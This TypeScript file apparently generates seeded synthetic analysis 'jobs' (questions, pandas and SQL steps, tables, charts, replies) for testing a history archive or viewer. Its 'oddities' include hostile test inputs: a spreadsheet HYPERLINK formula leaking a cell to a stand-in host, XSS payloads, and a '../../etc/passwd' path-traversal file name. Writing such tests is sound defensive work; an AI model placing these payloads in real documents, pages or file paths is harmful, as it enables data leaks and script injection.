/** Makes one job: a question, the steps of its analysis, and the answer. */
import { chartPicture } from '../chart-picture.js';
import { datasetIdOf, languageOf, topicOf } from './session-maker.js';
import {
  changeOf,
  makeFigures,
  type Figures,
  detailTable,
  seededTable,
  TOPICS,
  csvFile,
} from './tables.js';
import {
  DIMENSIONS,
  MEASURES,
  fillPhrase,
  formatNumber,
  PHRASES,
  type SeedLanguage,
  capitalised,
} from './phrases.js';
import {
  cuid,
  type SeededJobPlace,
  type SeedPlan,
  RandomStream,
  type FileContent,
} from './seed-plan.js';
import { JobDraft, type MadeJob, sourcesOf } from './job-draft.js';

/** The same place and plan give the same job. */
export function makeJob(place: SeededJobPlace, plan: SeedPlan): MadeJob {
  const random = RandomStream.of(plan.seed, 'job', place.user, place.session, place.job);
  const language = languageOf(place);
  const topic = random.chance(0.6) ? topicOf(place, plan) : random.pick(TOPICS);
  const figures = makeFigures(topic, random);
  const draft = new JobDraft(place, random);
  const words = wordsOf(figures, language);
  const say = (phrase: string): string => fillPhrase(phrase, words);

  const { questions } = PHRASES[language];
  draft.question.push({ type: 'MESSAGE', content: say(random.pick(questions)) });
  if (plan.blocksPerJob !== undefined || plan.artifactsPerJob !== undefined) {
    fillLoadJob(draft, figures, plan, say);
    return draft;
  }
  if (random.chance(0.2)) {
    recall(draft, figures, language, say);
  } else {
    analyse(draft, figures, language, say);
  }
  const datasetId = datasetIdOf(topic, plan.seed);
  draft.respond('SOURCES', sourcesOf(topic, datasetId, random));
  draft.respond('QUESTIONS', PHRASES[language].followUps.map(say));
  if (plan.odd) addOddity(draft, figures, datasetId);
  if (plan.gaps) addGap(draft, figures);
  return draft;
}

/** Steps with code and tables, then the reply; the reply's files are those of the steps. */
function analyse(
  draft: JobDraft,
  figures: Figures,
  language: SeedLanguage,
  say: (phrase: string) => string,
): void {
  const { topic } = figures;
  const { random } = draft;
  const stem = `${topic.measure}_by_${topic.dimension}`;
  const parts = random.chance(0.1) ? 60 : random.integer(2, 6);
  const detailKey = cuid(random, 0);
  const plan = draft.group('Plan');
  plan('MESSAGE', say(PHRASES[language].plan));

  const load = draft.group(`Load ${topic.sources[0] ?? 'data'}`);
  load('CODE', loadingCode(figures));
  const detail = draft.file(`${stem}_raw.csv`, () =>
    detailTable(figures, parts, RandomStream.of('detail', detailKey)),
  );
  load('TABLE', random.chance(0.25) ? detail.url : detail);

  const compute = draft.group('Group and compare');
  compute('CODE', groupingCode(figures));
  const result = draft.file(`${stem}.csv`, () => seededTable(figures));
  compute('TABLE', result);

  const chart = draft.group('');
  const image = draft.file(
    say(PHRASES[language].imageName),
    () => chartPicture(figures),
    `${stem}.png`,
  );
  chart('IMAGE', image);

  draft.respond('MESSAGE', reply(figures, language, say));
  draft.respond('TABLE', random.chance(0.2) ? result.url : result);
  draft.respond('IMAGE', image);
}

/** An information-retrieval job: an answer from documents, without figures. */
function recall(
  draft: JobDraft,
  figures: Figures,
  language: SeedLanguage,
  say: (phrase: string) => string,
): void {
  draft.group('Search')('MESSAGE', say(PHRASES[language].plan));
  draft.respond('MESSAGE', `${say(PHRASES[language].extremes)} [1]`);
  draft.respond(
    'MESSAGE',
    `> ${say(PHRASES[language].change)}\n\n— ${figures.topic.sources.join(', ')}`,
  );
}

function reply(figures: Figures, language: SeedLanguage, say: (phrase: string) => string): string {
  const { heading, finding, extremes, change } = PHRASES[language];
  const { rows, topic } = figures;
  const number = (value: number): string => formatNumber(value, topic.decimals, PHRASES[language]);
  const lines = rows
    .slice(0, 5)
    .map(
      ({ category, value, previous }) =>
        `| ${category} | ${number(value)} | ${changeOf(value, previous)} |`,
    );
  return [
    `## ${capitalised(say(heading))}`,
    `- ${say(finding)}\n- ${say(extremes)}\n- ${say(change)}`,
    [`| ${say('{d}')} | ${say('{m}')} | Δ % |`, '|---|---:|---:|', ...lines].join('\n'),
  ].join('\n\n');
}

function wordsOf(figures: Figures, language: SeedLanguage): Record<string, string> {
  const { topic, top, low, aggregate, rows } = figures;
  const phrases = PHRASES[language];
  const number = (value: number): string => formatNumber(value, topic.decimals, phrases);
  return {
    m: MEASURES[topic.measure][language],
    d: DIMENSIONS[topic.dimension][language],
    p: figures.period,
    top: top.category,
    topv: number(top.value),
    low: low.category,
    lowv: number(low.value),
    agg: topic.additive ? phrases.total : phrases.average,
    value: number(aggregate),
    n: String(rows.length),
    chg: figures.change,
  };
}

function loadingCode({ topic, period }: Figures): string {
  const [source = 'data.csv'] = topic.sources;
  const reader = source.endsWith('.xlsx') ? 'read_excel' : 'read_csv';
  return `\`\`\`python\nimport pandas as pd\n\ndf = pd.${reader}("${source}")\ndf = df[df["period"] == "${period}"]\nprint(df.shape)\n\`\`\``;
}

function groupingCode({ topic, period }: Figures): string {
  const fold = topic.additive ? 'SUM' : 'AVG';
  return `\`\`\`sql\nSELECT ${topic.dimension}, ${fold}(${topic.measure}) AS ${topic.measure}\nFROM entries\nWHERE period = '${period}'\nGROUP BY ${topic.dimension}\nORDER BY 2 DESC;\n\`\`\``;
}

/** Jobs of an exact size, quick to make: for measurements with thousands of them. */

const DEFAULT_BLOCKS = 12;
const DEFAULT_FILES = 2;

/** Analyze blocks with the files among them, then one MESSAGE and one QUESTIONS. */
function fillLoadJob(
  draft: JobDraft,
  figures: Figures,
  { blocksPerJob, artifactsPerJob }: SeedPlan,
  say: (phrase: string) => string,
): void {
  const wantedFiles = artifactsPerJob ?? DEFAULT_FILES;
  const blocks = blocksPerJob ?? Math.max(DEFAULT_BLOCKS, wantedFiles + 2);
  const files = Math.min(wantedFiles, blocks - 2);
  const finding = say('**{top}** {topv}, **{low}** {lowv}, {agg} {value} ({chg} %)');
  let step = draft.group('Step 1');
  for (let index = 0; index < blocks - 2 - files; index++) {
    if (index % 4 === 0) step = draft.group(`Step ${index / 4 + 1}`);
    if (index % 2 === 0) step('MESSAGE', `${index + 1}. ${finding}`);
    else
      step(
        'CODE',
        `\`\`\`python\nrows = rows[rows["value"] > ${figures.low.value + index}]\n\`\`\``,
      );
  }
  for (let index = 0; index < files; index++) {
    if (index % 2 === 0)
      step(
        'TABLE',
        draft.file(`t${index}.csv`, () => seededTable(figures)),
      );
    else
      step(
        'IMAGE',
        draft.file(`chart ${index}`, () => chartPicture(figures), `c${index}.png`),
      );
  }
  draft.respond('MESSAGE', say('{m}: ') + finding);
  draft.respond('QUESTIONS', [say('{m} {d}?'), say('{top} / {low}?')]);
}

/** Unusual contents of real histories: a job gets at most one of these, in turn. */

type Oddity = (draft: JobDraft, figures: Figures, datasetId: string) => void;

/** A placeholder in JSON text for a number without quotes that no double can represent. */
const BEYOND_DOUBLES = '{{digits:9007199254740993}}';

/** All can be archived without a gap. The demo has none of them: `serve --odd` has. */
const ODDITIES: readonly Oddity[] = [
  function emptyFile(draft) {
    draft.respond(
      'TABLE',
      draft.file('nothing found.csv', () => csvFile('')),
    );
  },
  function windowsTable(draft, figures) {
    draft.respond(
      'TABLE',
      draft.file('Excel export.csv', () => seededTable(figures, { windows: true })),
    );
  },
  function longTable(draft, figures) {
    const key = draft.random.digits(8, 36);
    const make = (): FileContent => detailTable(figures, 120, RandomStream.of(key));
    draft.group('Details')('TABLE', draft.file('all_entries.csv', make));
  },
  function controlCharacters(draft) {
    draft.respond(
      'MESSAGE',
      'Bell \u0007, NUL \u0000, tab \t, CR\r\nLF, escape \u001b[31m, U+FFFE \ufffe.',
    );
  },
  function formulas(draft) {
    draft.respond('MESSAGE', '=HYPERLINK("http://example.invalid/?leak="&A1,"open")');
    draft.respond('MESSAGE', '+1+1');
    draft.respond('MESSAGE', '@SUM(A1:A9)');
    draft.respond('MESSAGE', '_x0041_ and {"formula":"1+1"}');
  },
  function longText(draft, figures) {
    const line = `${figures.top.category}: ${figures.top.value} 🙂 `;
    draft.respond('MESSAGE', line.repeat(Math.ceil(41_000 / line.length)));
  },
  function emptyNullAbsent(draft) {
    draft.group('Nothing')('MESSAGE', '');
    draft.group('Nothing')('MESSAGE', null);
    draft.steps.push({ type: 'MESSAGE', stage: 'Analyze', group_id: '' });
  },
  function moreTypes(draft, figures) {
    const step = draft.group('Tasks');
    step('TASK', { id: 1, title: 'Collect figures', status: 'done', subtasks: [] });
    step('CHART_INFO', {
      ...draft.file('chart.json', () => chartSpecification(figures)),
      chart_type: figures.topic.chart,
    });
    step('TRIGGER', { kind: 'schedule', at: '08:00', enabled: false });
    step('HOLOGRAM', { depth: 3, layers: [{ z: 0 }, { z: 1.5 }] });
  },
  function sourceSpelled(draft, figures, datasetId) {
    draft.respond('SOURCE', sourcesOf(figures.topic, datasetId, draft.random));
  },
  function linkInText(draft, figures) {
    const { url } = draft.file('linked.csv', () => seededTable(figures));
    draft.respond('MESSAGE', `[Download the table](${url}) before it is gone.`);
  },
  function codeInQuestion(draft, figures) {
    const { measure } = figures.topic;
    draft.question.push({
      type: 'CODE',
      content: `\`\`\`sql\nSELECT ${measure} FROM entries\n\`\`\``,
    });
  },
  function hostileText(draft) {
    draft.respond('MESSAGE', '<script>alert(1)</script> <img src=x onerror="alert(2)">');
    draft.respond('MESSAGE', '[click](javascript:alert(3)) & <b>bold</b> </textarea>');
  },
  function unknownFields(draft) {
    draft.replies.push({
      type: 'MESSAGE',
      content: 'Checked.',
      group_id: '-1',
      group_name: '',
      stage: 'Respond',
      score: 0.75,
      tags: ['a', 'b'],
      sequence: BEYOND_DOUBLES,
    });
  },
  function oddNames(draft, figures) {
    const table = (): FileContent => seededTable(figures);
    draft.respond('TABLE', draft.file('../../etc/passwd', table, 'x1.csv'));
    draft.respond('TABLE', draft.file('CON', table, 'x2.csv'));
    draft.respond('TABLE', draft.file('é'.repeat(128), table, 'x3.csv'));
    draft.respond(
      'IMAGE',
      draft.file('=1+1', () => chartPicture(figures), 'x4.png'),
    );
  },
  function bareBlocks(draft) {
    draft.replies.push({ type: 'MESSAGE', content: 'A block without a stage or a group.' });
    draft.group('')('CODE', 'print("no fence")');
  },
];

/** Contents that leave a gap. */
const GAPS: readonly Oddity[] = [
  function storageKey(draft) {
    draft.respond('TABLE', { name: 'kept.csv', url: 'tables/2026/kept.csv' });
  },
  function missingFile(draft) {
    draft.respond('TABLE', {
      name: 'gone.csv',
      url: '{{url:gone.csv}}',
      expires_at: '{{expires_at}}',
    });
  },
  function pageInsteadOfTable(draft) {
    const make = (): FileContent => csvFile('<!DOCTYPE html><html><body>Sign in</body></html>');
    draft.respond('TABLE', draft.file('page.csv', make));
  },
];

/** Half of the jobs stay ordinary. */
function addOddity(draft: JobDraft, figures: Figures, datasetId: string): void {
  inTurn(ODDITIES, draft.place, 2)?.(draft, figures, datasetId);
}

/** One in four jobs gets a gap. */
function addGap(draft: JobDraft, figures: Figures): void {
  inTurn(GAPS, draft.place, 4)?.(draft, figures, '');
}

function inTurn(
  oddities: readonly Oddity[],
  { user, session, job }: SeededJobPlace,
  every: number,
): Oddity | undefined {
  const turn = user * 37 + session * 11 + job;
  return turn % every === 0 ? oddities[(turn / every) % oddities.length] : undefined;
}

function chartSpecification({ topic, rows }: Figures): FileContent {
  const specification = {
    type: topic.chart,
    x: topic.dimension,
    y: topic.measure,
    data: rows.map(({ category, value }) => [category, value]),
  };
  return { bytes: Buffer.from(JSON.stringify(specification)), mediaType: 'application/json' };
}
